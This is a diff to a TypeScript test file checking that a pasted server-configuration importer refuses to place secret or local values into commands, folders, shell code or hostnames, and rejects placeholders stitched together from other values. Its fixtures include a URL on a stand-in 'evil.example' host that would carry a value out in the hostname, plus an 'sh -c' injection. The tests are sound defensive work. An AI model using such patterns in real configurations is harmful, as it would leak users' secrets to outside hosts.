@@ -1,5 +1,5 @@
 import { afterEach, describe, expect, it } from 'vitest';
-import type { PasteField } from '../../../../shared/domain/pasted/pasteReading.ts';
+import type { PastedLaunch, PasteField } from '../../../../shared/domain/pasted/pasteReading.ts';
 import { fakePasteReader } from '../../testing/fakePasteReader.ts';
 import { memorySecrets } from '../../testing/memorySecrets.ts';
 import { TestHost } from '../../testing/testHost.ts';
@@ -27,9 +27,9 @@ const launch = {
   env: { MODE: '${input:env:HOME_MODE}' },
 };
 
-async function begin(values: Readonly<Record<string, string>> = {}) {
+async function begin(values: Readonly<Record<string, string>> = {}, own: PastedLaunch = launch) {
   const secrets = memorySecrets(values);
-  const servers = [{ name: 'files', launch, isChosen: true, notes: [], secrets: [] }];
+  const servers = [{ name: 'files', launch: own, isChosen: true, notes: [], secrets: [] }];
   const paste = fakePasteReader({ servers, fields }, { HOME_MODE: 'from-here', dir: 'never' });
   host = await new TestHost({ ports: { secrets, paste } }).start();
   return { host, secrets };
@@ -62,6 +62,41 @@ describe('a pasted server', () => {
     expect(await launches(host)).toMatchObject([{ env: { MODE: '${secret:files.HOME_MODE}' } }]);
     expect(await secrets.get('server:files.HOME_MODE')).toBe('from-here');
     expect(JSON.stringify(host.events)).not.toContain('from-here');
+  });
+
+  const open = '${input:env:HOME_MODE}';
+  it.each<[string, PastedLaunch]>([
+    ['a command', { kind: 'stdio', command: open, args: [], env: {} }],
+    ['a folder', { kind: 'stdio', command: 'x', args: [], env: {}, cwd: `/${open}` }],
+    ['code', { kind: 'stdio', command: 'sh', args: ['-c', `echo ${open}`], env: {} }],
+    ['a host', { kind: 'http', url: `https://${open}.evil.example/mcp`, headers: {} }],
+  ])('never has a value of this computer written out in %s, whatever the page says', async (_, own) => {
+    const { host } = await begin({}, own);
+    const answers = { 'env:HOME_MODE': { isFromComputer: true as const } };
+    const { added, problems } = await host.call('server.import', { ...wish, answers });
+    expect(added).toEqual([]);
+    expect(problems).toMatchObject([{ problem: { kind: 'pasteSecretMisplaced', fields: 'HOME_MODE' } }]);
+    expect(JSON.stringify(host.events)).not.toContain('from-here');
+  });
+
+  it('has no secret written out either, and none of another server put together from values', async () => {
+    const inCode = await begin({}, { kind: 'stdio', command: 'sh', args: ['-c', 'T=${input:in:pat} x'], env: {} });
+    const typed = await inCode.host.call('server.import', {
+      ...wish,
+      answers: { 'in:pat': { value: 'S3CRET-value' } },
+    });
+    expect(typed.problems).toMatchObject([{ problem: { kind: 'pasteSecretMisplaced' } }]);
+    expect(JSON.stringify(inCode.host.events)).not.toContain('S3CRET-value');
+    await inCode.host.stop();
+    const joined = await begin(
+      {},
+      { kind: 'stdio', command: 'x', args: [], env: { T: '${sec${input:in:dir}:GITHUB}' } },
+    );
+    const { added, problems } = await joined.host.call('server.import', {
+      ...wish,
+      answers: { 'in:dir': { value: 'ret' } },
+    });
+    expect([added, problems.length]).toEqual([[], 1]);
   });
 
   it('is not added while a value is missing, and leaves no secret behind', async () => {
